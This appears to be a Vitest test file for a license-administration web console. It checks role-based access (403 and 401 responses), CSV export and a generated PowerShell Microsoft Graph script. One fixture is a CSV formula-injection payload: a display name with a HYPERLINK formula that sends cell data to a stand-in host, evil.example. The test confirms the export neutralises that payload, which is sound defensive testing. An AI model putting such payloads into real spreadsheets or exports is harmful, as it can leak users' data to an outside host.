/**
 * Who may do what on the report, Users, Groups and Requests pages: a Reports reader reads and
 * exports (CSV, commands), and every change answers 403 and writes nothing — the server actions and
 * the route handlers alike. A Global admin's changes go through. The CSV neutralises formulas.
 */
import { parse } from "csv-parse/sync";
import { NextRequest } from "next/server";
import { beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import type { AppUser } from "@/server/auth/users";
import { findActiveUserById } from "@/server/auth/users";
import { createUser } from "../factories";
import { createClaim, createRefusedLaunch, createReportWorld, type ReportWorld } from "../report-world";
import { useAppDb } from "../setup/app-db";
import { useTestDb } from "../setup/db";

const session = vi.hoisted(() => ({ user: null as AppUser | null }));
vi.mock("@/server/auth/guards", () => ({ getCurrentUser: async () => session.user }));
vi.mock("next/cache", () => ({ revalidatePath: () => {} }));

const report = await import("@/app/(console)/billing/licenses/auto-claim/[id]/report/actions");
const users = await import("@/app/(console)/users/actions");
const groups = await import("@/app/(console)/groups/actions");
const requests = await import("@/app/(console)/billing/licenses/requests/actions");
const csvRoute = await import("@/app/api/exports/policies/[policyId]/report/route");
const commandsRoute = await import("@/app/api/exports/policies/[policyId]/commands/route");

const t = useTestDb();
let w: ReportWorld;
let admin: AppUser;
let reader: AppUser;
let plainUser: AppUser;
let requestId: string;

beforeAll(async () => {
  useAppDb(t.db);
  w = await createReportWorld(t.prisma, { people: 4 });
  const evil = await createUser(t.prisma, w.tenant, { displayName: '=HYPERLINK("http://evil.example/?x="&A1,"Click me")', givenName: "Evil" });
  await createClaim(t.prisma, w, evil.id, w.productId);
  const readerRow = await createUser(t.prisma, w.tenant, { givenName: "Rhea", role: "REPORTS_READER" });
  const userRow = await createUser(t.prisma, w.tenant, { givenName: "Plain" });
  admin = (await findActiveUserById(t.prisma, w.admin.id))!;
  reader = (await findActiveUserById(t.prisma, readerRow.id))!;
  plainUser = (await findActiveUserById(t.prisma, userRow.id))!;
  const launch = await createRefusedLaunch(t.prisma, w, userRow.id);
  requestId = (await t.prisma.licenseRequest.create({ data: { tenantId: w.tenantId, userId: userRow.id, appId: w.appId, launchId: launch.id } })).id;
});

beforeEach(() => {
  session.user = reader;
});

async function state(world: ReportWorld = w) {
  const [assignments, members, requestRows, audits, consumed] = await Promise.all([
    t.prisma.licenseAssignment.findMany({ where: { tenantId: world.tenantId }, orderBy: { id: "asc" }, select: { id: true, source: true } }),
    t.prisma.groupMember.findMany({ where: { groupId: world.groupId }, orderBy: { userId: "asc" } }),
    t.prisma.licenseRequest.findMany({ where: { tenantId: world.tenantId }, select: { id: true, status: true } }),
    t.prisma.auditEntry.count({ where: { tenantId: world.tenantId } }),
    t.prisma.product.findUniqueOrThrow({ where: { id: world.productId }, select: { consumedUnits: true } }),
  ]);
  return { assignments, members, requestRows, audits, consumed };
}

const csvRequest = (query = "") =>
  csvRoute.GET(new NextRequest(`http://localhost/api/exports/policies/${w.policyId}/report${query}`), { params: Promise.resolve({ policyId: w.policyId }) });
const commandsRequest = (form: Record<string, string>) =>
  commandsRoute.POST(new NextRequest(`http://localhost/api/exports/policies/${w.policyId}/commands`, { method: "POST", body: new URLSearchParams(form) }), {
    params: Promise.resolve({ policyId: w.policyId }),
  });

describe("a Reports reader", () => {
  it("gets 403 from every change, and nothing is written", async () => {
    const before = await state();
    const ids = w.claims.slice(0, 2).map((c) => c.id);
    const other = w.users[3];
    const results = [
      await report.unassignLicensesAction({ policyId: w.policyId, selection: { kind: "ids", ids } }),
      await report.unassignImpactAction({ policyId: w.policyId, ids }),
      await report.moveToGroupAction({ policyId: w.policyId, groupId: w.groupId, selection: { kind: "ids", ids } }),
      await report.moveToGroupAction({
        policyId: w.policyId,
        groupId: w.groupId,
        selection: { kind: "filter", filter: { range: "all", q: "" }, asOf: new Date().toISOString() },
      }),
      await users.assignUserLicenseAction({ userId: plainUser.id, productId: w.productId }),
      await users.unassignUserLicenseAction({ userId: other.id, productId: w.productId }),
      await groups.addGroupMemberAction({ groupId: w.groupId, user: other.userPrincipalName }),
      await groups.removeGroupMemberAction({ groupId: w.groupId, userId: other.id }),
      await requests.approveRequestAction({ requestId, productId: w.productId }),
      await requests.denyRequestAction({ requestId, decisionMessage: "no" }),
    ];
    for (const result of results) expect(result).toMatchObject({ ok: false, status: 403 });
    // A form post (FormData) is refused the same way.
    const form = new FormData();
    form.set("userId", plainUser.id);
    form.set("productId", w.productId);
    expect(await users.assignUserLicenseAction(null, form)).toMatchObject({ ok: false, status: 403 });
    expect(await state()).toEqual(before);
  });

  it("exports the CSV (200, streamed, a hostile display name neutralised)", async () => {
    const response = await csvRequest("?range=all");
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="auto-claim-report-makers-policy-all-time-\d{4}-\d{2}-\d{2}\.csv"/);
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // the UTF-8 byte-order mark
    const text = new TextDecoder().decode(bytes);
    const rows: string[][] = parse(text, { bom: true });
    expect(rows).toHaveLength(1 + 5);
    const evil = rows.find((r) => r[0].includes("HYPERLINK"))!;
    expect(evil[0]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Click me")`);
    expect(rows.every((r) => r.every((cell) => !/^[=+\-@\t\r]/.test(cell)))).toBe(true);
  });

  it("downloads the commands script naming Entra's object ids where known, else the UPN and the group's name — never the portal's ids", async () => {
    const download = async () => {
      const response = await commandsRequest({
        ids: w.claims
          .slice(0, 2)
          .map((c) => c.id)
          .join(","),
        groupId: w.groupId,
      });
      expect(response.status).toBe(200);
      expect(response.headers.get("content-disposition")).toMatch(/filename="move-to-group-makers-policy-/);
      return response.text();
    };
    const sku = (await t.prisma.product.findUniqueOrThrow({ where: { id: w.productId } })).skuId;
    const [first, second] = await Promise.all(w.claims.slice(0, 2).map((c) => t.prisma.user.findUniqueOrThrow({ where: { id: c.userId } })));
    const group = await t.prisma.group.findUniqueOrThrow({ where: { id: w.groupId } });

    // Without Entra ids (not provisioned by SCIM): the users by UPN, the group by its name.
    const byName = await download();
    expect(byName).toContain("Connect-MgGraph -Scopes User.Read.All,LicenseAssignment.ReadWrite.All,GroupMember.ReadWrite.All -NoWelcome");
    expect(byName).toContain(`$GroupName = '${group.displayName}'`);
    expect(byName).toContain(`Get-MgGroup -Filter ("displayName eq '{0}'" -f ($GroupName -replace "'", "''")) -Property Id`);
    for (const user of [first, second]) expect(byName).toContain(`Id = $null; Upn = '${user.userPrincipalName}'; `);
    expect(byName).toContain("if (-not $p.Id) { $p.Id = (Get-MgUser -UserId $p.Upn -Property Id).Id }");
    expect(byName).toContain("New-MgGroupMember -GroupId $GroupId -DirectoryObjectId $p.Id");
    expect(byName).toContain("Set-MgUserLicense -UserId $user -AddLicenses @() -RemoveLicenses @($p.SkuId)");
    expect(byName).toContain(`SkuId = '${sku}'`);
    for (const id of [w.groupId, first.id, second.id, w.claims[2].userId]) expect(byName).not.toContain(id);

    // With them (as SCIM keeps them): the object ids.
    const objectId = (n: number) => `00000000-0000-4000-8000-${String(n).padStart(12, "0")}`;
    await t.prisma.group.update({ where: { id: w.groupId }, data: { externalId: objectId(1) } });
    await t.prisma.user.update({ where: { id: first.id }, data: { externalId: objectId(2) } });
    const byId = await download();
    expect(byId).toContain(`$GroupId = '${objectId(1)}'`);
    expect(byId).toContain(`Id = '${objectId(2)}'; Upn = '${first.userPrincipalName}'; `);
    expect(byId).toContain(`Id = $null; Upn = '${second.userPrincipalName}'; `);
    expect(byId).not.toContain(w.groupId);
  });
});

describe("other callers", () => {
  it("a User gets 403 from the exports, and a signed-out caller 401", async () => {
    session.user = plainUser;
    expect((await csvRequest()).status).toBe(403);
    expect((await commandsRequest({ all: "1" })).status).toBe(403);
    session.user = null;
    expect((await csvRequest()).status).toBe(401);
    expect(await report.unassignLicensesAction({ policyId: w.policyId, selection: { kind: "ids", ids: [w.claims[0].id] } })).toMatchObject({
      ok: false,
      status: 401,
    });
  });

  it("an unknown policy is 404", async () => {
    const missing = "00000000-0000-4000-8000-000000000000";
    const response = await csvRoute.GET(new NextRequest(`http://localhost/api/exports/policies/${missing}/report`), {
      params: Promise.resolve({ policyId: missing }),
    });
    expect(response.status).toBe(404);
  });

  it("a Global admin reads how many units an Unassign of the picked rows really frees", async () => {
    const own = await createReportWorld(t.prisma, { people: 3 });
    session.user = (await findActiveUserById(t.prisma, own.admin.id))!;
    // The first person also holds the product through the group: unassigning their claim frees nothing.
    await own.addMembers([own.claims[0].userId]);
    const ids = own.claims.map((c) => c.id);
    expect(await report.unassignImpactAction({ policyId: own.policyId, ids })).toMatchObject({ ok: true, data: { selected: 3, unitsFreed: 2 } });
    expect(await report.unassignImpactAction({ policyId: own.policyId, ids: ["nope"] })).toMatchObject({ ok: false, status: 400 });
  });

  it("a Global admin moves people to the group, and the consumed count does not change", async () => {
    // This test changes the report, so it has a tenant of its own.
    const own = await createReportWorld(t.prisma, { people: 4 });
    session.user = (await findActiveUserById(t.prisma, own.admin.id))!;
    const before = await state(own);
    const result = await report.moveToGroupAction({ policyId: own.policyId, groupId: own.groupId, selection: { kind: "ids", ids: [own.claims[0].id] } });
    expect(result).toMatchObject({ ok: true, data: { done: 1 } });
    expect((await state(own)).consumed).toEqual(before.consumed);
  });

  it("a Global admin gets field errors for a bad group, beside the field", async () => {
    session.user = admin;
    const result = await report.moveToGroupAction({ policyId: w.policyId, groupId: "nope", selection: { kind: "ids", ids: [w.claims[1].id] } });
    expect(result).toMatchObject({ ok: false, status: 400, fieldErrors: { groupId: ["Choose a group."] } });
  });
});
